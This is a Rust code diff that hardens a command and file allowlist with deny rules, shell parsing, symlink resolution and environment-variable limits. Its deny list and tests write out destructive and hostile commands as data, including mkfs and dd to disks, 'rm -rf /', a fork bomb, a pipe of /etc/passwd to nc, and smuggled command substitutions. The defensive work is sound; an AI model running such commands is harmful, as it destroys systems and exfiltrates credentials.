@@ -1,17 +1,37 @@
+use std::path::{Path, PathBuf};
+
 use anyhow::{Result, anyhow};
 use regex::Regex;
 use serde::{Deserialize, Serialize};
 
+use crate::environment;
+use crate::paths;
+use crate::shell;
 use crate::task::{Task, TaskDetail, TaskStatus};
 
+/// Redirection targets that never need a file allowlist entry.
+const SAFE_REDIRECT_TARGETS: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr"];
+
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct AllowlistConfig {
     #[serde(default)]
     pub command_patterns: Vec<String>,
     #[serde(default)]
     pub file_patterns: Vec<String>,
+    /// Checked before `command_patterns`, in addition to the built-in denies.
+    #[serde(default)]
+    pub deny_command_patterns: Vec<String>,
+    /// Checked before `file_patterns`, in addition to the built-in denies.
+    #[serde(default)]
+    pub deny_file_patterns: Vec<String>,
     #[serde(default = "default_max_edit_kb")]
     pub max_edit_size_kb: usize,
+    /// Environment variables a plan may set for a command; tasks setting
+    /// any other need approval. None by default, since a variable can
+    /// change what an allowlisted program runs. Names that always change
+    /// it (`PATH`, `LD_*`, ...) are refused even when listed.
+    #[serde(default)]
+    pub plan_env_vars: Vec<String>,
 }
 
 fn default_max_edit_kb() -> usize {
@@ -29,7 +49,10 @@ impl Default for AllowlistConfig {
                 .iter()
                 .map(|s| s.to_string())
                 .collect(),
+            deny_command_patterns: Vec::new(),
+            deny_file_patterns: Vec::new(),
             max_edit_size_kb: default_max_edit_kb(),
+            plan_env_vars: Vec::new(),
         }
     }
 }
@@ -91,19 +114,93 @@ fn default_file_patterns() -> &'static [&'static str] {
     ]
 }
 
+/// Options of `sudo` that take a value.
+const SUDO_VALUE_OPTIONS: &[&str] = &[
+    "-u",
+    "-g",
+    "-C",
+    "-D",
+    "-h",
+    "-p",
+    "-r",
+    "-t",
+    "-T",
+    "-U",
+    "--user",
+    "--group",
+    "--close-from",
+    "--chdir",
+    "--host",
+    "--prompt",
+    "--role",
+    "--type",
+    "--command-timeout",
+    "--other-user",
+];
+
+/// Commands that run the rest of their arguments as a command, with their
+/// options that take a value.
+const COMMAND_WRAPPERS: &[(&str, &[&str])] = &[
+    ("sudo", SUDO_VALUE_OPTIONS),
+    ("doas", &["-u", "-C"]),
+    ("run0", &["-u", "-g", "-D", "--user", "--group", "--chdir"]),
+    ("env", &["-u", "-C", "--unset", "--chdir"]),
+    ("nice", &["-n", "--adjustment"]),
+    ("nohup", &[]),
+    ("command", &[]),
+    ("exec", &["-a"]),
+    ("time", &["-f", "-o", "--format", "--output"]),
+];
+
+/// Commands that are never allowed, whatever the config says. Matched against
+/// the whole command line, against each of its parts, and against the
+/// command each part really runs (see `effective_command`).
+fn builtin_deny_command_patterns() -> &'static [&'static str] {
+    &[
+        r"^(sudo\s+)?(mkfs(\.\w+)?|mke2fs|mkswap|wipefs)(\s|$)",
+        r"^(sudo\s+)?dd\s+.*\bof=/dev/(sd|hd|vd|xvd|nvme|mmcblk|md|dm-|disk)",
+        r"^(sudo\s+)?rm\s+(-\S+\s+)*/\*?(\s|$)",
+        r"^(sudo\s+)?(fdisk|sfdisk|parted)\s+/dev/",
+        // Classic fork bomb, `:(){ :|:& };:`
+        r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
+    ]
+}
+
+/// Files that are never writable, whatever the config says.
+fn builtin_deny_file_patterns() -> &'static [&'static str] {
+    &[r"^/dev/(sd|hd|vd|xvd|nvme|mmcblk|md|dm-|disk)"]
+}
+
 #[derive(Debug, Clone)]
 pub struct Allowlist {
     command_regexes: Vec<Regex>,
     file_regexes: Vec<Regex>,
+    deny_command_regexes: Vec<Regex>,
+    deny_file_regexes: Vec<Regex>,
     max_edit_size_kb: usize,
+    plan_env_vars: Vec<String>,
 }
 
 #[derive(Debug, thiserror::Error)]
 pub enum AllowlistError {
+    #[error("'{target}' matches deny rule '{rule}'")]
+    ExplicitlyDenied { target: String, rule: String },
     #[error("command '{0}' is not allowlisted")]
     CommandDenied(String),
+    #[error("'{part}' in '{command}' is not allowlisted")]
+    PartDenied { part: String, command: String },
+    #[error("redirection to '{0}' is not allowlisted")]
+    RedirectDenied(String),
+    #[error("redirection to '{0}' depends on an expansion")]
+    RedirectExpands(String),
+    #[error("could not parse command '{0}': {1}")]
+    Unparseable(String, shell::ShellParseError),
     #[error("file '{0}' is not allowlisted")]
     FileDenied(String),
+    #[error("file '{path}' resolves to '{resolved}', which is not allowlisted")]
+    ResolvedFileDenied { path: String, resolved: String },
+    #[error("plans may not set environment variable '{0}'")]
+    EnvDenied(String),
     #[error("edit for '{0}' exceeds {1} KiB limit")]
     EditTooLarge(String, usize),
 }
@@ -124,35 +221,48 @@ impl Allowlist {
                 Regex::new(pat).map_err(|err| anyhow!("invalid file regex '{}': {err}", pat))
             })
             .collect::<Result<Vec<_>>>()?;
+        let deny_command_regexes = builtin_deny_command_patterns()
+            .iter()
+            .copied()
+            .chain(cfg.deny_command_patterns.iter().map(String::as_str))
+            .map(|pat| {
+                Regex::new(pat)
+                    .map_err(|err| anyhow!("invalid deny command regex '{}': {err}", pat))
+            })
+            .collect::<Result<Vec<_>>>()?;
+        let deny_file_regexes = builtin_deny_file_patterns()
+            .iter()
+            .copied()
+            .chain(cfg.deny_file_patterns.iter().map(String::as_str))
+            .map(|pat| {
+                Regex::new(pat).map_err(|err| anyhow!("invalid deny file regex '{}': {err}", pat))
+            })
+            .collect::<Result<Vec<_>>>()?;
 
         Ok(Self {
             command_regexes,
             file_regexes,
+            deny_command_regexes,
+            deny_file_regexes,
             max_edit_size_kb: cfg.max_edit_size_kb,
+            plan_env_vars: cfg.plan_env_vars,
         })
     }
 
     pub fn evaluate(&self, task: &Task) -> Result<TaskStatus, AllowlistError> {
         match &task.detail {
             TaskDetail::Command(cmd) => {
-                if self
-                    .command_regexes
-                    .iter()
-                    .any(|re| re.is_match(&cmd.command))
-                {
-                    Ok(TaskStatus::Ready)
-                } else {
-                    Err(AllowlistError::CommandDenied(cmd.command.clone()))
+                if let Some(name) = cmd.env.keys().find(|name| !self.plan_may_set(name)) {
+                    return Err(AllowlistError::EnvDenied(name.clone()));
                 }
+                self.evaluate_command(&cmd.command)?;
+                Ok(TaskStatus::Ready)
             }
             TaskDetail::FileEdit(edit) => {
                 if let Some(path) = &edit.path {
-                    let matches_path = self.file_regexes.iter().any(|re| re.is_match(path));
-                    if !matches_path {
-                        return Err(AllowlistError::FileDenied(path.clone()));
-                    }
+                    self.check_file_path(path)?;
                 }
-                let size_kb = edit.new_text.len() / 1024;
+                let size_kb = edit.payload_len() / 1024;
                 if size_kb > self.max_edit_size_kb {
                     return Err(AllowlistError::EditTooLarge(
                         edit.path.clone().unwrap_or_else(|| "<buffer>".into()),
@@ -162,14 +272,177 @@ impl Allowlist {
                 Ok(TaskStatus::Ready)
             }
             TaskDetail::Note { .. } => Ok(TaskStatus::Ready),
+            op => {
+                for path in op.file_op_paths() {
+                    self.check_file_path(&path)?;
+                }
+                Ok(TaskStatus::Ready)
+            }
+        }
+    }
+
+    /// Match a file path against the deny and allow rules after folding `..`
+    /// and resolving symlinks, and return the resolved path. Deny rules see
+    /// both the lexical and the resolved form; allow rules only the resolved
+    /// one, so a symlink can't borrow the allowlisting of its location.
+    pub fn check_file_path(&self, path: &str) -> Result<PathBuf, AllowlistError> {
+        let (normalized, resolved) = self.check_file_deny(path)?;
+        let resolved_str = resolved.to_string_lossy();
+
+        if self
+            .file_regexes
+            .iter()
+            .any(|re| re.is_match(&resolved_str))
+        {
+            return Ok(resolved);
+        }
+        Err(if resolved == normalized {
+            AllowlistError::FileDenied(path.to_string())
+        } else {
+            AllowlistError::ResolvedFileDenied {
+                path: path.to_string(),
+                resolved: resolved_str.into_owned(),
+            }
+        })
+    }
+
+    /// Match a file path's lexical and resolved forms against the deny
+    /// rules, returning both.
+    fn check_file_deny(&self, path: &str) -> Result<(PathBuf, PathBuf), AllowlistError> {
+        let normalized = paths::normalize(Path::new(path));
+        let resolved = paths::resolve(Path::new(path));
+        check_deny(&self.deny_file_regexes, &normalized.to_string_lossy())?;
+        check_deny(&self.deny_file_regexes, &resolved.to_string_lossy())?;
+        Ok((normalized, resolved))
+    }
+
+    /// Whether a plan may set `name` for a command: listed in
+    /// `plan_env_vars` and not one that is never allowed.
+    fn plan_may_set(&self, name: &str) -> bool {
+        self.plan_env_vars.iter().any(|listed| listed == name) && environment::plan_may_set(name)
+    }
+
+    /// Check every simple command and file redirection in a command line.
+    /// `ls; rm -rf /` is only as allowed as its least allowed part.
+    fn evaluate_command(&self, command: &str) -> Result<(), AllowlistError> {
+        // Deny rules see the raw line too, for patterns that span parts
+        check_deny(&self.deny_command_regexes, command.trim())?;
+        let parsed = shell::parse(command)
+            .map_err(|err| AllowlistError::Unparseable(command.to_string(), err))?;
+        if parsed.commands.is_empty() {
+            return Err(AllowlistError::CommandDenied(command.to_string()));
+        }
+
+        for (part, words) in parsed.commands.iter().zip(&parsed.words) {
+            check_deny(&self.deny_command_regexes, part)?;
+            if let Some(effective) = effective_command(words) {
+                check_deny(&self.deny_command_regexes, &effective)?;
+            }
         }
+        // What the shell expands a target to can't be judged here
+        if let Some(redirect) = parsed
+            .redirections
+            .iter()
+            .find(|r| r.writes_file() && r.target_expands())
+        {
+            return Err(AllowlistError::RedirectExpands(redirect.target.clone()));
+        }
+        for redirect in parsed.redirections.iter().filter(|r| r.writes_file()) {
+            self.check_file_deny(&redirect.target_path())?;
+        }
+
+        for part in &parsed.commands {
+            if !self.command_regexes.iter().any(|re| re.is_match(part)) {
+                return Err(if part == command.trim() {
+                    AllowlistError::CommandDenied(part.clone())
+                } else {
+                    AllowlistError::PartDenied {
+                        part: part.clone(),
+                        command: command.to_string(),
+                    }
+                });
+            }
+        }
+
+        for redirect in parsed.redirections.iter().filter(|r| r.writes_file()) {
+            let target = redirect.target_path();
+            if SAFE_REDIRECT_TARGETS.contains(&target.as_str()) {
+                continue;
+            }
+            self.check_file_path(&target).map_err(|err| match err {
+                AllowlistError::ExplicitlyDenied { .. } => err,
+                _ => AllowlistError::RedirectDenied(target.clone()),
+            })?;
+        }
+        Ok(())
+    }
+}
+
+/// What a simple command really runs, for the deny rules: its unquoted
+/// words without leading `VAR=value` assignments or wrappers like `sudo -n`
+/// and `env`, with argv[0] reduced to its basename. `sudo -n /sbin/mkfs.ext4`
+/// becomes `mkfs.ext4`.
+fn effective_command(words: &[String]) -> Option<String> {
+    let mut rest = words;
+    loop {
+        let first = rest.first()?;
+        if is_assignment(first) {
+            rest = &rest[1..];
+            continue;
+        }
+        let Some((_, takes_value)) = COMMAND_WRAPPERS
+            .iter()
+            .find(|(wrapper, _)| *wrapper == basename(first))
+        else {
+            break;
+        };
+        rest = &rest[1..];
+        while let Some(option) = rest.first()
+            && option.starts_with('-')
+        {
+            rest = &rest[1..];
+            if option == "--" {
+                break;
+            }
+            if takes_value.contains(&option.as_str()) {
+                rest = rest.get(1..).unwrap_or_default();
+            }
+        }
+    }
+    let (first, args) = rest.split_first()?;
+    let mut effective = basename(first).to_string();
+    for arg in args {
+        effective.push(' ');
+        effective.push_str(arg);
+    }
+    Some(effective)
+}
+
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+    })
+}
+
+fn basename(word: &str) -> &str {
+    word.rsplit('/').next().unwrap_or(word)
+}
+
+fn check_deny(rules: &[Regex], target: &str) -> Result<(), AllowlistError> {
+    match rules.iter().find(|re| re.is_match(target)) {
+        Some(rule) => Err(AllowlistError::ExplicitlyDenied {
+            target: target.to_string(),
+            rule: rule.as_str().to_string(),
+        }),
+        None => Ok(()),
     }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::task::{CommandTask, Task, TaskDetail};
+    use crate::task::{CommandTask, EditOperation, FileEditTask, Task, TaskDetail};
 
     fn make_task(cmd: &str) -> Task {
         Task::new(
@@ -179,6 +452,23 @@ mod tests {
                 command: cmd.into(),
                 cwd: None,
                 requires_root: false,
+                timeout_secs: None,
+                interactive: false,
+                env: Default::default(),
+            }),
+        )
+    }
+
+    fn make_edit(path: &str) -> Task {
+        Task::new(
+            "edit",
+            TaskDetail::FileEdit(FileEditTask {
+                path: Some(path.into()),
+                new_text: "x".into(),
+                description: None,
+                operation: EditOperation::Rewrite,
+                diff: None,
+                planned: None,
             }),
         )
     }
@@ -188,7 +478,10 @@ mod tests {
         let cfg = AllowlistConfig {
             command_patterns: vec![r"^ls".into()],
             file_patterns: vec![],
+            deny_command_patterns: vec![],
+            deny_file_patterns: vec![],
             max_edit_size_kb: 64,
+            plan_env_vars: vec![],
         };
         let allowlist = Allowlist::from_config(cfg).unwrap();
         let task = make_task("rm -rf /tmp/foo");
@@ -201,11 +494,273 @@ mod tests {
         let cfg = AllowlistConfig {
             command_patterns: vec![r"^ls".into()],
             file_patterns: vec![],
+            deny_command_patterns: vec![],
+            deny_file_patterns: vec![],
             max_edit_size_kb: 64,
+            plan_env_vars: vec![],
         };
         let allowlist = Allowlist::from_config(cfg).unwrap();
         let task = make_task("ls -la /var");
         let result = allowlist.evaluate(&task).unwrap();
         assert!(matches!(result, TaskStatus::Ready));
     }
+
+    #[test]
+    fn task_env_may_not_change_what_runs() {
+        let with_env = |allowlist: &Allowlist, name: &str| {
+            let mut task = make_task("ls /var");
+            if let TaskDetail::Command(cmd) = &mut task.detail {
+                cmd.env.insert(name.into(), "x".into());
+            }
+            allowlist.evaluate(&task)
+        };
+        let default = Allowlist::from_config(AllowlistConfig::default()).unwrap();
+        for name in [
+            "DEBIAN_FRONTEND",
+            "GIT_SSH_COMMAND",
+            "PERL5OPT",
+            "APT_CONFIG",
+        ] {
+            assert!(matches!(
+                with_env(&default, name),
+                Err(AllowlistError::EnvDenied(denied)) if denied == name
+            ));
+        }
+
+        let listed = Allowlist::from_config(AllowlistConfig {
+            plan_env_vars: vec!["DEBIAN_FRONTEND".into(), "LD_PRELOAD".into()],
+            ..AllowlistConfig::default()
+        })
+        .unwrap();
+        assert!(with_env(&listed, "DEBIAN_FRONTEND").is_ok());
+        assert!(with_env(&listed, "LD_PRELOAD").is_err());
+        assert!(with_env(&listed, "NODE_OPTIONS").is_err());
+    }
+
+    #[test]
+    fn checks_every_part_of_compound_commands() {
+        let allowlist = Allowlist::from_config(AllowlistConfig::default()).unwrap();
+
+        for (cmd, bad_part) in [
+            ("ls; rm -rf /tmp/x", "rm -rf /tmp/x"),
+            ("cat /etc/passwd | nc evil 80", "nc evil 80"),
+            ("grep x $(bash -c 'id')", "bash -c 'id'"),
+            ("ls && (whoami; reboot)", "reboot"),
+            // `\'` doesn't end an ANSI-C quote, so the `;` after it separates
+            ("ls $'\\'' 2>/dev/null; id -un; echo 'x' #'", "id -un"),
+            ("ls $'\\''\nid -un\n#'", "id -un"),
+            // Not arithmetic, but a command substitution of two subshells
+            ("ls $((touch /tmp/x) ; (id))", "touch /tmp/x"),
+            ("grep x $((rm -rf /home);(id))", "rm -rf /home"),
+            ("ls \"$((id);(reboot))\"", "reboot"),
+            ("ls $((ls /tmp) | (reboot))", "reboot"),
+        ] {
+            match allowlist.evaluate(&make_task(cmd)) {
+                Err(AllowlistError::PartDenied { part, .. }) => assert_eq!(part, bad_part),
+                other => panic!("{cmd}: expected PartDenied, got {other:?}"),
+            }
+        }
+
+        let ok = make_task("journalctl -u ssh -n 50 | grep -i fail 2>/dev/null");
+        assert!(matches!(allowlist.evaluate(&ok), Ok(TaskStatus::Ready)));
+        let ok = make_task("ls /proc/$((2 * (3 + 4)))");
+        assert!(matches!(allowlist.evaluate(&ok), Ok(TaskStatus::Ready)));
+    }
+
+    #[test]
+    fn redirections_must_target_allowlisted_files() {
+        let allowlist = Allowlist::from_config(AllowlistConfig::default()).unwrap();
+        let denied = allowlist.evaluate(&make_task("cat /var/log/syslog > /root/.bashrc"));
+        assert!(
+            matches!(denied, Err(AllowlistError::RedirectDenied(path)) if path == "/root/.bashrc")
+        );
+
+        let allowed = allowlist.evaluate(&make_task("cat /etc/hosts > /etc/hosts.copy"));
+        assert!(allowed.is_ok());
+
+        for cmd in [
+            "cat /etc/hosts > /etc/$X",
+            "cat /etc/hosts > $(echo /etc/shadow)",
+            "cat /etc/hosts > `echo /etc/shadow`",
+            "cat /etc/hosts > /etc/host*",
+            "cat /etc/hosts 2>> ~/.bashrc",
+        ] {
+            assert!(
+                matches!(
+                    allowlist.evaluate(&make_task(cmd)),
+                    Err(AllowlistError::RedirectExpands(_))
+                ),
+                "{cmd} should be refused"
+            );
+        }
+        // Reading from an expansion is still fine
+        assert!(allowlist.evaluate(&make_task("grep x < /etc/$X")).is_ok());
+
+        let unparseable = allowlist.evaluate(&make_task("ls 'oops"));
+        assert!(matches!(unparseable, Err(AllowlistError::Unparseable(..))));
+    }
+
+    #[test]
+    fn deny_rules_win_over_allow_rules() {
+        let cfg = AllowlistConfig {
+            deny_command_patterns: vec![r"^(sudo\s+)?systemctl\s+stop\s+sshd?\b".into()],
+            deny_file_patterns: vec![r"^/etc/shadow$".into()],
+            ..AllowlistConfig::default()
+        };
+        let allowlist = Allowlist::from_config(cfg).unwrap();
+
+        assert!(
+            allowlist
+                .evaluate(&make_task("systemctl restart sshd"))
+                .is_ok()
+        );
+        match allowlist.evaluate(&make_task("ls && sudo systemctl stop sshd")) {
+            Err(AllowlistError::ExplicitlyDenied { target, rule }) => {
+                assert_eq!(target, "sudo systemctl stop sshd");
+                assert!(rule.contains("stop"));
+            }
+            other => panic!("expected ExplicitlyDenied, got {other:?}"),
+        }
+
+        let shadow = make_edit("/etc/shadow");
+        assert!(matches!(
+            allowlist.evaluate(&shadow),
+            Err(AllowlistError::ExplicitlyDenied { .. })
+        ));
+    }
+
+    #[test]
+    fn file_operations_check_every_path() {
+        let allowlist = Allowlist::from_config(AllowlistConfig::default()).unwrap();
+        let op = |detail: TaskDetail| allowlist.evaluate(&Task::new("op", detail));
+
+        assert!(
+            op(TaskDetail::Chmod {
+                path: "/etc/app.conf".into(),
+                mode: "0640".into(),
+            })
+            .is_ok()
+        );
+        let moved_out = op(TaskDetail::Move {
+            path: "/etc/app.conf".into(),
+            to: "/root/app.conf".into(),
+        });
+        assert!(matches!(moved_out, Err(AllowlistError::FileDenied(p)) if p == "/root/app.conf"));
+
+        // Relative targets are judged from the link's directory
+        assert!(
+            op(TaskDetail::Symlink {
+                path: "/etc/nginx/sites-enabled/app".into(),
+                target: "../sites-available/app".into(),
+            })
+            .is_ok()
+        );
+        assert!(
+            op(TaskDetail::Symlink {
+                path: "/etc/app.key".into(),
+                target: "../root/.ssh/id_ed25519".into(),
+            })
+            .is_err()
+        );
+        assert!(
+            op(TaskDetail::Delete {
+                path: "/dev/sda".into()
+            })
+            .is_err()
+        );
+    }
+
+    #[test]
+    fn builtin_denies_apply_even_when_allowed() {
+        let cfg = AllowlistConfig {
+            command_patterns: vec![".*".into()],
+            file_patterns: vec![".*".into()],
+            ..AllowlistConfig::default()
+        };
+        let allowlist = Allowlist::from_config(cfg).unwrap();
+        for cmd in [
+            "mkfs.ext4 /dev/sdb1",
+            "sudo dd if=/dev/zero of=/dev/sda bs=1M",
+            "rm -rf /",
+            "sudo rm -rf --no-preserve-root /",
+            "rm -rf /*",
+            ":(){ :|:& };:",
+            "echo hi > /dev/sda",
+            "echo hi > /dev/./sda",
+            "ls x y > /dev/../dev/sdb",
+            "ls; wipefs -a /dev/sdb",
+            "rm -rf '/'",
+            "/sbin/mkfs.ext4 /dev/sdb1",
+            "\\mkfs /dev/sdb1",
+            "sudo -n mkfs /dev/sdb1",
+            "sudo -u root -- mkfs /dev/sdb1",
+            "env mkfs /dev/sdb1",
+            "env -i LANG=C FOO=1 /usr/sbin/mkfs /dev/sdb1",
+            "LANG=C nice -n 5 wipefs -a /dev/sdb",
+            "$'\\x6dkfs' /dev/sdb1",
+        ] {
+            assert!(
+                matches!(
+                    allowlist.evaluate(&make_task(cmd)),
+                    Err(AllowlistError::ExplicitlyDenied { .. })
+                ),
+                "{cmd} should be denied"
+            );
+        }
+        assert!(allowlist.evaluate(&make_task("rm -rf /tmp/build")).is_ok());
+    }
+
+    #[test]
+    fn file_paths_are_normalized_before_matching() {
+        let allowlist = Allowlist::from_config(AllowlistConfig::default()).unwrap();
+        let traversal = make_edit("/etc/../root/.ssh/authorized_keys");
+        assert!(matches!(
+            allowlist.evaluate(&traversal),
+            Err(AllowlistError::FileDenied(_))
+        ));
+        let redirect = allowlist.evaluate(&make_task("cat /etc/hosts > /var/log/../../root/x"));
+        assert!(matches!(redirect, Err(AllowlistError::RedirectDenied(_))));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn symlinks_are_judged_by_their_target() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = std::fs::canonicalize(dir.path()).unwrap();
+        std::fs::create_dir(root.join("logs")).unwrap();
+        std::fs::create_dir(root.join("secret")).unwrap();
+        std::fs::create_dir(root.join("secret/sub")).unwrap();
+        std::os::unix::fs::symlink(root.join("secret"), root.join("logs/escape")).unwrap();
+        std::os::unix::fs::symlink(root.join("secret/sub"), root.join("logs/evil")).unwrap();
+
+        let cfg = AllowlistConfig {
+            file_patterns: vec![format!("^{}/logs/", regex::escape(&root.to_string_lossy()))],
+            ..AllowlistConfig::default()
+        };
+        let allowlist = Allowlist::from_config(cfg).unwrap();
+
+        let ok = make_edit(&root.join("logs/app.log").to_string_lossy());
+        assert!(allowlist.evaluate(&ok).is_ok());
+        let escape = make_edit(&root.join("logs/escape/key").to_string_lossy());
+        match allowlist.evaluate(&escape) {
+            Err(AllowlistError::ResolvedFileDenied { resolved, .. }) => {
+                assert_eq!(resolved, root.join("secret/key").to_string_lossy());
+            }
+            other => panic!("expected ResolvedFileDenied, got {other:?}"),
+        }
+
+        // `..` after a symlink climbs out of its target, as the kernel does
+        let climb = root.join("logs/evil/../key").to_string_lossy().into_owned();
+        assert!(allowlist.evaluate(&make_edit(&climb)).is_err());
+        let redirect = allowlist.evaluate(&make_task(&format!("cat /etc/hostname > {climb}")));
+        assert!(matches!(redirect, Err(AllowlistError::RedirectDenied(_))));
+        let link = Task::new(
+            "link",
+            TaskDetail::Symlink {
+                path: root.join("logs/link").to_string_lossy().into_owned(),
+                target: "evil/../key".into(),
+            },
+        );
+        assert!(allowlist.evaluate(&link).is_err());
+    }
 }